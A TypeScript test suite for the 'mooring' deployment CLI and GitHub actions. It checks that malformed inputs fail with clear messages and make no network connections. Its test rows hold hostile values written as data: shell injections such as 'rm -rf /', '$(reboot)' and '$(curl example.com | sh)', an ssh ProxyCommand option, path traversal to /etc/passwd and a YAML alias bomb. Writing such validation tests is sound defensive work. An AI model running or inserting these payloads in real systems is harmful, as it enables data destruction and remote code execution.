import { spawn } from "node:child_process";
import { copyFile, mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { runAction } from "./github/testing/run-action.ts";
import {
  createProject,
  ENVIRONMENT_YAML,
  PREVIEW_YAML,
  REPOSITORY_ROOT,
  serviceYaml,
} from "./testing/fixture.ts";

// Malformed input through every entry point a user reaches: the `mooring`
// CLI as `node bin/mooring.js`, and the actions' dist files as the runner
// starts them, which is also how workflow_dispatch inputs arrive. Each row
// must fail with a message that names the file and line or the input and
// states what was expected, without a stack trace. It must also contact
// nothing: the project's kubeconfig, registry, SSH port and GitHub API all
// point at a loopback listener that counts connections, and it must count none.

/** The kinds of input the table covers: files, then command-line options, workflow_dispatch and action inputs. */
type InputKind = "environment" | "service" | "machines" | "option" | "workflow_dispatch" | "action";

/** How a row is run: the CLI with arguments, or an action's dist with inputs. */
type EntryPoint = { cli: string[] } | { action: string; inputs: Record<string, string> };

interface Row {
  /** The problem with the input, which names the test. */
  name: string;
  kind: InputKind;
  /** Project files to write, by path, over the fixture's; null deletes one. `{port}` is the listener's port. */
  files?: Record<string, string | Buffer | null>;
  run: EntryPoint;
  /** Texts the output must contain: where the problem is, and what was expected. */
  expected: string[];
  /** A text the output must not contain, such as a secret. */
  absent?: string;
}

/** The exit code, output and connections of one row's run. */
interface Outcome {
  exitCode: number;
  output: string;
  /** Connections the listener accepted while the row ran. */
  connections: number;
}

const ENV_FILE = "clusters/local/environment.yaml";
const MACHINES_FILE = "clusters/local/machines.yaml";
const ENVIRONMENT = ENVIRONMENT_YAML.replace("localhost:5000/mooring", "127.0.0.1:{port}/mooring");
const PREVIEW = PREVIEW_YAML.replace("ghcr.io/example/demo", "127.0.0.1:{port}/mooring").replace(
  "context: staging",
  "kubeconfig: .mooring/kubeconfig",
);
const MACHINES = `kubernetesVersion: "1.32"
ssh:
  user: fedora
  port: {port}
controlPlane:
  name: cp
  address: 127.0.0.1
workers:
  - name: worker-1
    address: 127.0.0.1
`;
// Neither key is a real key; each only has the form that bootstrap checks before ssh reads it.
const HOST_KEY = `AAAAC3NzaC1lZDI1NTE5AAAAI${Buffer.alloc(32, 7).toString("base64")}`.replace(/=+$/, "");
const KNOWN_HOSTS = `[127.0.0.1]:{port} ssh-ed25519 ${HOST_KEY}\n`;
const PRIVATE_KEY = [
  "-----BEGIN OPENSSH PRIVATE KEY-----",
  Buffer.alloc(48, 1).toString("base64"),
  "-----END OPENSSH PRIVATE KEY-----",
].join("\n");
const PUBLIC_KEY = `ssh-ed25519 ${HOST_KEY} runner@example`;
const KUBECONFIG = `apiVersion: v1
kind: Config
clusters:
  - name: listener
    cluster: { server: "https://127.0.0.1:{port}", insecure-skip-tls-verify: true }
users:
  - name: listener
    user: { token: not-a-token }
contexts:
  - name: listener
    context: { cluster: listener, user: listener }
current-context: listener
`;

/** Returns the environment file with each `[search, replacement]` applied. */
function environment(...edits: Array<[string, string]>): Record<string, string> {
  return { [ENV_FILE]: edit(ENVIRONMENT, edits) };
}

/** Returns machines.yaml with each `[search, replacement]` applied. */
function machines(...edits: Array<[string, string]>): Record<string, string> {
  return { [MACHINES_FILE]: edit(MACHINES, edits) };
}

function edit(text: string, edits: Array<[string, string]>): string {
  return edits.reduce((result, [search, replacement]) => {
    if (!result.includes(search)) throw new Error(`the fixture has no '${search}'`);
    return result.replace(search, replacement);
  }, text);
}

const validate = { cli: ["validate", "--env", "local"] };
const deploy = { cli: ["deploy", "--env", "local"] };
const bootstrap = { cli: ["bootstrap", "--env", "local", "--plan", "--known-hosts", "known_hosts"] };
const bootstrapAction = (inputs: Record<string, string>): EntryPoint => ({
  action: "bootstrap",
  inputs: {
    environment: "local",
    plan: "true",
    "known-hosts": KNOWN_HOSTS,
    "ssh-private-key": PRIVATE_KEY,
    ...inputs,
  },
});
// The inputs that scale.yml passes on from its workflow_dispatch form.
const scaleAction = (inputs: Record<string, string>): EntryPoint => ({
  action: "scale",
  inputs: { environment: "local", service: "api", replicas: "2", "max-replicas": "20", ...inputs },
});
const deployAction = (inputs: Record<string, string>): EntryPoint => ({
  action: "deploy",
  inputs: { environment: "local", ...inputs },
});

const REPLICAS_EXPECTED = "expected an integer from 0 to 100 replicas";
const LABEL_EXPECTED = "expected a DNS-1123 label: lowercase letters, digits and '-', at most 63 characters";
const SERVICE_NAME_EXPECTED =
  "expected a DNS-1035 label: a lowercase letter, then lowercase letters, digits and '-', at most 63 characters";
// Ten aliases of ten aliases, six levels deep: a million values from a few lines, if expanded.
const ALIAS_BOMB = [
  "a: &a [x, x, x, x, x, x, x, x, x, x]",
  "b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]",
  "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]",
  "d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]",
  "e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]",
  "f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]",
  "",
].join("\n");

const rows: Row[] = [
  // Environment files: clusters/<env>/environment.yaml, and the --env that names one.
  {
    name: "replicas of the wrong type",
    kind: "environment",
    files: environment(["replicas: 2", "replicas: two"]),
    run: validate,
    expected: [`${ENV_FILE}:12: services.web.replicas: ${REPLICAS_EXPECTED}, got 'two'`],
  },
  {
    name: "negative replicas",
    kind: "environment",
    files: environment(["replicas: 2", "replicas: -3"]),
    run: deploy,
    expected: [`${ENV_FILE}:12: services.web.replicas: ${REPLICAS_EXPECTED}, got -3`],
  },
  {
    name: "huge replicas",
    kind: "environment",
    files: environment(["replicas: 2", "replicas: 1e12"]),
    run: deploy,
    expected: [`${ENV_FILE}:12: services.web.replicas: ${REPLICAS_EXPECTED}, got 1000000000000`],
  },
  {
    name: "unquoted Kubernetes version",
    kind: "environment",
    files: environment(['kubernetesVersion: "1.20"', "kubernetesVersion: 1.20"]),
    run: validate,
    expected: [
      `${ENV_FILE}:3: kubernetesVersion: expected a quoted minor version such as "1.20" (unquoted, YAML reads 1.20 as the number 1.2)`,
    ],
  },
  {
    name: "namespace with shell metacharacters",
    kind: "environment",
    files: environment(["namespace: demo", 'namespace: "demo;rm -rf /"']),
    run: deploy,
    expected: [`${ENV_FILE}:2: namespace: ${LABEL_EXPECTED}, got 'demo;rm -rf /'`],
  },
  {
    name: "host with command substitution",
    kind: "environment",
    files: environment([
      "type: NodePort\n      nodePort: 30080\n      host: 127.0.0.1",
      'type: Ingress\n      host: "$(reboot).example.com"',
    ]),
    run: deploy,
    expected: [
      `${ENV_FILE}:15: services.web.expose.host: expected a lowercase DNS host name such as 'shop.example.com', got '$(reboot).example.com'`,
    ],
  },
  {
    name: "base image with backticks",
    kind: "environment",
    files: environment(["base: local-node", 'base: "`reboot`"']),
    run: deploy,
    expected: [
      `${ENV_FILE}:8: images.base: expected an image reference such as 'docker.io/library/node:24-slim', or 'local-node', got '\`reboot\`'`,
    ],
  },
  {
    name: "registry path with '..'",
    kind: "environment",
    files: environment(["127.0.0.1:{port}/mooring", "127.0.0.1:{port}/../../etc"]),
    run: deploy,
    expected: [
      `${ENV_FILE}:7: images.registry: expected a registry and path such as 'localhost:5000/mooring', got '127.0.0.1:`,
    ],
  },
  {
    name: "misspelt key",
    kind: "environment",
    files: environment(["rollout:", "rolout:"]),
    run: validate,
    expected: [`${ENV_FILE}:19: rolout: unknown key 'rolout'; did you mean 'rollout'?`],
  },
  {
    name: "duplicated key",
    kind: "environment",
    files: environment(["rollout:", "namespace: other\nrollout:"]),
    run: deploy,
    expected: [`${ENV_FILE}:19: invalid YAML: key 'namespace' appears twice in one mapping`],
  },
  {
    name: "merge key that adds a key",
    kind: "environment",
    files: environment(["  api:\n    replicas: 1", "  api:\n    <<: { replicas: 1, hostNetwork: true }"]),
    run: deploy,
    expected: [
      `${ENV_FILE}:18: services.api.<<: unknown key '<<': YAML 1.2 has no merge keys, so write the keys out`,
    ],
  },
  {
    name: "alias that exposes an internal service",
    kind: "environment",
    files: environment(["  web:\n", "  web: &web\n"], ["  api:\n    replicas: 1", "  api: *web"]),
    run: deploy,
    expected: [
      `${ENV_FILE}:17: services.api.expose.nodePort: node port 30080 is already used by service 'web'`,
    ],
  },
  {
    name: "alias bomb",
    kind: "environment",
    files: { [ENV_FILE]: ALIAS_BOMB + ENVIRONMENT },
    run: validate,
    expected: [
      `${ENV_FILE}: invalid YAML: Excessive alias count indicates a resource exhaustion attack; write the values out instead of repeating aliases`,
    ],
  },
  {
    name: "empty environment file",
    kind: "environment",
    files: { [ENV_FILE]: "" },
    run: deploy,
    expected: [`${ENV_FILE}:1: the file is empty; expected a mapping`],
  },
  {
    name: "UTF-16 environment file",
    kind: "environment",
    files: { [ENV_FILE]: Buffer.from([0xff, 0xfe, 0x6e, 0x00, 0x61, 0x00, 0x0a, 0x00]) },
    run: deploy,
    expected: [`${ENV_FILE}:1: not UTF-8 text: it starts with a UTF-16 byte order mark; save it as UTF-8`],
  },
  {
    name: "Latin-1 byte in an environment file",
    kind: "environment",
    files: {
      [ENV_FILE]: Buffer.concat([
        Buffer.from("name: local\n# caf"),
        Buffer.from([0xe9]),
        Buffer.from(`\n${ENVIRONMENT.split("\n").slice(1).join("\n")}`),
      ]),
    },
    run: validate,
    expected: [`${ENV_FILE}:2: not UTF-8 text: invalid byte sequence on this line; save the file as UTF-8`],
  },
  {
    name: "directory in place of the file",
    kind: "environment",
    files: { [ENV_FILE]: null, [`${ENV_FILE}/README`]: "not a file\n" },
    run: validate,
    expected: [`${ENV_FILE}: is a directory; expected a YAML file`],
  },
  {
    name: "list in place of a mapping",
    kind: "environment",
    files: { [ENV_FILE]: "- name: local\n- namespace: demo\n" },
    run: validate,
    expected: [`${ENV_FILE}:1: expected a mapping, got [{"name":"local"},{"namespace":"demo"}]`],
  },
  {
    name: "variable name with a semicolon",
    kind: "environment",
    files: environment(["    replicas: 1", '    replicas: 1\n    env: { "A;reboot": "1" }']),
    run: deploy,
    expected: [
      `${ENV_FILE}:19: services.api.env.A;reboot: invalid key 'A;reboot': expected a variable name: letters, digits and '_', not starting with a digit`,
    ],
  },
  {
    name: "environment name with '..'",
    kind: "environment",
    run: { cli: ["deploy", "--env", "../../etc"] },
    expected: [
      "clusters: invalid environment name '../../etc'; expected the name of a folder under clusters/, a DNS-1123 label such as 'staging'",
    ],
  },

  // Service settings: services/<name>/service.yaml.
  {
    name: "port out of range",
    kind: "service",
    files: { "services/api/service.yaml": serviceYaml("api").replace("port: 8080", "port: 70000") },
    run: deploy,
    expected: ["services/api/service.yaml:2: port: expected an integer from 1 to 65535, got 70000"],
  },
  {
    name: "port of the wrong type",
    kind: "service",
    files: { "services/api/service.yaml": serviceYaml("api").replace("port: 8080", "port: http") },
    run: validate,
    expected: ["services/api/service.yaml:2: port: expected an integer from 1 to 65535, got 'http'"],
  },
  {
    name: "service name with backticks",
    kind: "service",
    files: { "services/api/service.yaml": serviceYaml("api").replace("name: api", 'name: "api`reboot`"') },
    run: deploy,
    expected: [`services/api/service.yaml:1: name: ${SERVICE_NAME_EXPECTED}, got 'api\`reboot\`'`],
  },
  {
    name: "duplicated service",
    kind: "service",
    files: { "services/api-copy/service.yaml": serviceYaml("api") },
    run: deploy,
    expected: ["services/api-copy/service.yaml:1: name: expected 'api-copy' (the folder's name), got 'api'"],
  },
  {
    name: "dependency with '..'",
    kind: "service",
    files: { "services/web/service.yaml": serviceYaml("web", "dependsOn: [../../etc/passwd]\n") },
    run: validate,
    expected: [
      `services/web/service.yaml:10: dependsOn[0]: ${SERVICE_NAME_EXPECTED}, got '../../etc/passwd'`,
    ],
  },
  {
    name: "dependency listed twice",
    kind: "service",
    files: { "services/web/service.yaml": serviceYaml("web", "dependsOn: [api, api]\n") },
    run: deploy,
    expected: ["services/web/service.yaml:10: dependsOn[1]: 'api' is listed twice"],
  },
  {
    name: "misspelt service key",
    kind: "service",
    files: { "services/web/service.yaml": serviceYaml("web", "dependOn: [api]\n") },
    run: validate,
    expected: ["services/web/service.yaml:10: dependOn: unknown key 'dependOn'; did you mean 'dependsOn'?"],
  },
  {
    name: "empty service file",
    kind: "service",
    files: { "services/api/service.yaml": "" },
    run: deploy,
    expected: ["services/api/service.yaml:1: the file is empty; expected a mapping"],
  },
  {
    name: "alias that adds an exec probe",
    kind: "service",
    files: {
      "services/api/service.yaml": serviceYaml("api").replace(
        "  liveness: /healthz\n  readiness: /readyz",
        '  liveness: &probe { path: /healthz, exec: "rm -rf /" }\n  readiness: *probe',
      ),
    },
    run: deploy,
    expected: [
      "services/api/service.yaml:5: probes.liveness.exec: unknown key 'exec'; expected one of 'path', 'periodSeconds', 'timeoutSeconds', 'failureThreshold', 'initialDelaySeconds'",
      "services/api/service.yaml: probes.readiness.exec: unknown key 'exec'",
    ],
  },
  {
    name: "probe path with a command",
    kind: "service",
    files: {
      "services/api/service.yaml": serviceYaml("api").replace(
        "readiness: /readyz",
        'readiness: "/readyz && reboot"',
      ),
    },
    run: validate,
    expected: [
      "services/api/service.yaml:6: probes.readiness: expected an HTTP path starting with '/', without spaces or control characters, got '/readyz && reboot'",
    ],
  },

  // Machine inventories: clusters/<env>/machines.yaml, and the files bootstrap reads with it.
  {
    name: "SSH port 70000",
    kind: "machines",
    files: machines(["port: {port}", "port: 70000"]),
    run: bootstrap,
    expected: [`${MACHINES_FILE}:4: ssh.port: expected an integer from 1 to 65535, got 70000`],
  },
  {
    name: "address that is not an IP address",
    kind: "machines",
    files: machines([
      "  - name: worker-1\n    address: 127.0.0.1",
      "  - name: worker-1\n    address: 300.1.2.3",
    ]),
    run: bootstrap,
    expected: [
      `${MACHINES_FILE}:10: workers[0].address: expected an IP address (IPv4: four numbers from 0 to 255) or host name, got '300.1.2.3'`,
    ],
  },
  {
    name: "address that is an ssh option",
    kind: "machines",
    files: machines([
      "  - name: worker-1\n    address: 127.0.0.1",
      '  - name: worker-1\n    address: "-oProxyCommand=reboot"',
    ]),
    run: bootstrap,
    expected: [
      `${MACHINES_FILE}:10: workers[0].address: expected an IP address (IPv4: four numbers from 0 to 255) or host name, got '-oProxyCommand=reboot'`,
    ],
  },
  {
    name: "machine name with shell metacharacters",
    kind: "machines",
    files: machines(["name: cp", 'name: "cp;rm -rf /"']),
    run: bootstrap,
    expected: [`${MACHINES_FILE}:6: controlPlane.name: ${LABEL_EXPECTED}, got 'cp;rm -rf /'`],
  },
  {
    name: "user with backticks",
    kind: "machines",
    files: machines(["user: fedora", 'user: "`reboot`"']),
    run: bootstrap,
    expected: [`${MACHINES_FILE}:3: ssh.user: expected a user name such as 'fedora', got '\`reboot\`'`],
  },
  {
    name: "CNI manifest with command substitution",
    kind: "machines",
    files: { [MACHINES_FILE]: `${MACHINES}cni:\n  manifest: "$(curl example.com | sh)"\n` },
    run: bootstrap,
    expected: [
      `${MACHINES_FILE}:12: cni.manifest: expected an http(s) URL, or an absolute path on the control plane, got '$(curl example.com | sh)'`,
    ],
  },
  {
    name: "alias that repeats the control plane",
    kind: "machines",
    files: machines(
      ["controlPlane:\n", "controlPlane: &cp\n"],
      ["  - name: worker-1\n    address: 127.0.0.1", "  - *cp"],
    ),
    run: bootstrap,
    expected: [
      `${MACHINES_FILE}:9: workers[0].name: the name 'cp' is already used by controlPlane; expected a name per machine`,
    ],
  },
  {
    name: "misspelt inventory key",
    kind: "machines",
    files: machines(["workers:", "worker:"]),
    run: bootstrap,
    expected: [`${MACHINES_FILE}:8: worker: unknown key 'worker'; did you mean 'workers'?`],
  },
  {
    name: "empty inventory",
    kind: "machines",
    files: { [MACHINES_FILE]: "" },
    run: bootstrap,
    expected: [`${MACHINES_FILE}:1: the file is empty; expected a mapping`],
  },
  {
    name: "negative step timeout",
    kind: "machines",
    files: { [MACHINES_FILE]: `${MACHINES}stepTimeoutSeconds: -1\n` },
    run: bootstrap,
    expected: [
      `${MACHINES_FILE}:11: stepTimeoutSeconds: expected an integer from 10 to 3600 seconds, got -1`,
    ],
  },
  {
    name: "known hosts with a fingerprint",
    kind: "machines",
    files: { known_hosts: "256 SHA256:uNiVztksCsDhcc0u9e8BujQXVUpKZIDTMczCvj3tD2s 127.0.0.1 (ED25519)\n" },
    run: bootstrap,
    expected: [
      "Invalid known hosts in --known-hosts 'known_hosts': line 1 is a key fingerprint, which ssh-keygen -l prints; expected known_hosts lines as ssh-keyscan prints them",
    ],
  },
  {
    name: "worker name with shell metacharacters",
    kind: "machines",
    run: { cli: [...bootstrap.cli, "--machine", "worker-1;reboot"] },
    expected: [`no worker named 'worker-1;reboot' in ${MACHINES_FILE}; expected one of 'worker-1'`],
  },

  // Command-line options.
  {
    name: "pull request number 1e3",
    kind: "option",
    files: { "clusters/preview/environment.yaml": PREVIEW },
    run: { cli: ["deploy", "--env", "preview", "--pr", "1e3"] },
    expected: ["Invalid --pr: '1e3'; expected a positive integer such as '42'"],
  },
  {
    name: "object to replace with a semicolon",
    kind: "option",
    run: { cli: [...deploy.cli, "--replace", "Deployment/demo/web;reboot"] },
    expected: [
      "Invalid --replace: 'Deployment/demo/web;reboot'; expected 'Kind/namespace/name' of a rendered object, such as 'Deployment/staging/time'",
    ],
  },

  // workflow_dispatch inputs, as scale.yml and bootstrap.yml pass them to their actions.
  {
    name: "scale to 1e12 replicas",
    kind: "workflow_dispatch",
    run: scaleAction({ replicas: "1e12" }),
    expected: ["replicas '1e12' is invalid; expected a whole number from 0 to 20"],
  },
  {
    name: "scale to -1 replicas",
    kind: "workflow_dispatch",
    run: scaleAction({ replicas: "-1" }),
    expected: ["replicas '-1' is invalid; expected a whole number from 0 to 20"],
  },
  {
    name: "scale a service named by a command",
    kind: "workflow_dispatch",
    run: scaleAction({ service: "$(reboot)" }),
    expected: ["service '$(reboot)' does not run in environment 'local'; expected one of 'web', 'api'"],
  },
  {
    name: "scale an environment with '..'",
    kind: "workflow_dispatch",
    run: scaleAction({ environment: "../../etc" }),
    expected: ["invalid environment name '../../etc'; expected the name of a folder under clusters/"],
  },
  {
    name: "bootstrap machines with a semicolon",
    kind: "workflow_dispatch",
    run: bootstrapAction({ machines: "worker-1;reboot" }),
    expected: [
      "Invalid input 'machines': 'worker-1;reboot' is not a machine name; expected names from machines.yaml, such as 'staging-worker-1'",
    ],
  },
  {
    name: "remove a worker named by a path",
    kind: "workflow_dispatch",
    run: bootstrapAction({ "remove-worker": "../../etc/passwd" }),
    expected: ["Invalid input 'remove-worker': '../../etc/passwd' is not a machine name"],
  },

  // Action inputs.
  {
    name: "known hosts input with a fingerprint",
    kind: "action",
    run: bootstrapAction({ "known-hosts": "SHA256:uNiVztksCsDhcc0u9e8BujQXVUpKZIDTMczCvj3tD2s" }),
    expected: ["Invalid known hosts in input 'known-hosts': line 1 is a key fingerprint"],
  },
  {
    name: "public key as the private key",
    kind: "action",
    run: bootstrapAction({ "ssh-private-key": PUBLIC_KEY }),
    expected: ["Invalid SSH private key in input 'ssh-private-key': it is a public key"],
    absent: HOST_KEY,
  },
  {
    name: "diagnostics file outside the project",
    kind: "action",
    run: bootstrapAction({ diagnostics: "../../etc/cron.d/mooring" }),
    expected: [
      "Invalid input 'diagnostics': '../../etc/cron.d/mooring'; expected a file path inside the project, such as 'bootstrap-diagnostics.txt'",
    ],
  },
  {
    name: "plan that is not a boolean",
    kind: "action",
    run: bootstrapAction({ plan: "yes" }),
    expected: ["Invalid input 'plan': 'yes'; expected 'true' or 'false'"],
  },
  {
    name: "pull request number 1e12",
    kind: "action",
    run: deployAction({ "pull-request": "1e12" }),
    expected: ["Invalid input 'pull-request': '1e12'; expected a positive integer such as '42'"],
  },
  {
    name: "object to replace with '..'",
    kind: "action",
    run: deployAction({ replace: "Deployment/../../etc/passwd" }),
    expected: [
      "Invalid input 'replace': 'Deployment/../../etc/passwd'; expected 'Kind/namespace/name' of a rendered object",
    ],
  },
  {
    name: "root outside the workspace",
    kind: "action",
    run: deployAction({ root: "../../.." }),
    expected: ["Invalid input 'root': '../../..'; expected a folder inside the workspace"],
  },
  {
    name: "deployment id past 2^53",
    kind: "action",
    run: {
      action: "report",
      inputs: {
        stage: "finish",
        environment: "local",
        "github-token": "t0ken",
        report: '{"environment":"local","outcome":"success","services":[]}',
        "deployment-id": "99999999999999999999",
      },
    },
    expected: ["Invalid input 'deployment-id': '99999999999999999999'"],
  },
  {
    name: "report with a number for a service",
    kind: "action",
    run: {
      action: "report",
      inputs: {
        stage: "finish",
        environment: "local",
        "github-token": "t0ken",
        report: '{"environment":"local","outcome":"success","services":[42]}',
      },
    },
    expected: ["Invalid input 'report': services[0]: Invalid input: expected object, received number"],
  },
  {
    name: "time-to-live of a million hours",
    kind: "action",
    run: {
      action: "preview",
      inputs: { mode: "sweep", "github-token": "t0ken", "time-to-live-hours": "1000000" },
    },
    expected: [
      "Invalid input 'time-to-live-hours': '1000000'; expected a whole number of hours from 1 to 8760",
    ],
  },
];

const CONCURRENCY = 3;
// A row that waits on a connection it should never make is killed after this long, and fails.
const ROW_TIMEOUT_SECONDS = 60;

const table = suite("bad input");
const outcomes = new Map<string, Promise<Outcome>>();
// The CLI bundles lib/ into .mooring/cli/ on its first run; every row's project links to one such folder.
let cliBundles = "";

table.before(async () => {
  cliBundles = await mkdtemp(join(tmpdir(), "mooring-cli-bundle-"));
  const queue = [...rows];
  const settle = new Map(
    rows.map((row) => {
      let resolve: (outcome: Outcome) => void = () => {};
      outcomes.set(
        row.name,
        new Promise<Outcome>((done) => {
          resolve = done;
        }),
      );
      return [row.name, (outcome: Outcome) => resolve(outcome)];
    }),
  );
  const worker = async () => {
    for (let row = queue.shift(); row !== undefined; row = queue.shift()) {
      const outcome = await runRow(row).catch((error: unknown) => ({
        exitCode: -1,
        output: `the row could not run: ${error instanceof Error ? error.stack : String(error)}`,
        connections: -1,
      }));
      settle.get(row.name)?.(outcome);
    }
  };
  for (let index = 0; index < CONCURRENCY; index++) void worker();
});

table.after(async () => {
  await rm(cliBundles, { recursive: true, force: true });
});

table("covers every kind of input", () => {
  assert.ok(rows.length >= 30, `${rows.length} rows`);
  assert.is(new Set(rows.map((row) => row.name)).size, rows.length, "row names are unique");
  for (const kind of ["environment", "service", "machines", "workflow_dispatch", "action"]) {
    const count = rows.filter((row) => row.kind === kind).length;
    assert.ok(count >= 4, `${count} rows of kind ${kind}`);
  }
});

for (const row of rows) {
  table(`${row.kind}: ${row.name}`, async () => {
    const { exitCode, output, connections } = (await outcomes.get(row.name)) as Outcome;
    assert.ok(exitCode > 0, `exit code ${exitCode}:\n${output}`);
    for (const text of row.expected) assert.ok(output.includes(text), `expected '${text}' in:\n${output}`);
    assert.not.match(output, /^\s+at /m, "a stack trace");
    assert.not.match(output, "node:internal", "a stack trace");
    // The runner reads each `::add-mask::` command to hide the value from the log, so only other lines count.
    const visibleOutput = output
      .split("\n")
      .filter((line) => !line.startsWith("::add-mask::"))
      .join("\n");
    if (row.absent !== undefined) assert.not.match(visibleOutput, row.absent, "the secret in the output");
    assert.is(connections, 0, `connections to the cluster, registry, SSH port or GitHub:\n${output}`);
  });
}

table.run();

/** Runs a row against a fresh project whose every address is a listener of its own. */
async function runRow(row: Row): Promise<Outcome> {
  // 1. The listener.
  let connections = 0;
  const listener = createServer((socket) => {
    connections++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  const port = String((listener.address() as { port: number }).port);
  const withPort = (text: string) => text.replaceAll("{port}", port);

  // 2. The project: the fixture pointed at the listener, then the row's files.
  const root = await createProject({
    [ENV_FILE]: withPort(ENVIRONMENT),
    [MACHINES_FILE]: withPort(MACHINES),
    ".mooring/kubeconfig": withPort(KUBECONFIG),
    known_hosts: withPort(KNOWN_HOSTS),
  });
  try {
    const files = Object.entries(row.files ?? {});
    for (const [path] of files.filter(([, content]) => content === null)) {
      await rm(join(root, path), { recursive: true, force: true });
    }
    for (const [path, content] of files) {
      if (content === null) continue;
      await mkdir(dirname(join(root, path)), { recursive: true });
      // Latin-1 maps each byte to one character and back, so a file that is not UTF-8 keeps its bytes.
      const bytes = Buffer.from(withPort(Buffer.from(content).toString("latin1")), "latin1");
      await writeFile(join(root, path), bytes);
    }

    // 3. The entry point.
    const result =
      "cli" in row.run
        ? await runCli(root, row.run.cli)
        : await runAction(row.run.action, {
            inputs: Object.fromEntries(
              Object.entries(row.run.inputs).map(([name, value]) => [name, withPort(value)]),
            ),
            workspace: root,
            apiUrl: `http://127.0.0.1:${port}`,
            env: { HOME: root },
            timeoutSeconds: ROW_TIMEOUT_SECONDS,
          }).then((ran) => ({ exitCode: ran.exitCode, output: ran.log }));
    return { ...result, connections };
  } finally {
    listener.close();
    await rm(root, { recursive: true, force: true });
  }
}

// Runs `node bin/mooring.js` from a copy in the project, because the CLI
// takes its project root from where bin/ is; lib/, node_modules/ and the
// folder of the CLI's bundles are links.
async function runCli(root: string, args: string[]): Promise<{ exitCode: number; output: string }> {
  await mkdir(join(root, "bin"));
  await copyFile(join(REPOSITORY_ROOT, "bin", "mooring.js"), join(root, "bin", "mooring.js"));
  await symlink(join(REPOSITORY_ROOT, "lib"), join(root, "lib"));
  await symlink(join(REPOSITORY_ROOT, "node_modules"), join(root, "node_modules"));
  await copyFile(join(REPOSITORY_ROOT, "package.json"), join(root, "package.json"));
  await mkdir(join(root, ".mooring"), { recursive: true });
  await symlink(cliBundles, join(root, ".mooring", "cli"));
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [join(root, "bin", "mooring.js"), ...args], {
      cwd: root,
      // HOME is the project, so that no kubeconfig or SSH setting of this machine is read.
      env: { PATH: process.env.PATH, HOME: root },
      stdio: ["ignore", "pipe", "pipe"],
    });
    let output = "";
    child.stdout.on("data", (chunk: Buffer) => {
      output += chunk.toString();
    });
    child.stderr.on("data", (chunk: Buffer) => {
      output += chunk.toString();
    });
    const timer = setTimeout(() => child.kill("SIGKILL"), ROW_TIMEOUT_SECONDS * 1000);
    child.on("close", (code) => {
      clearTimeout(timer);
      resolve({ exitCode: code ?? -1, output });
    });
  });
}
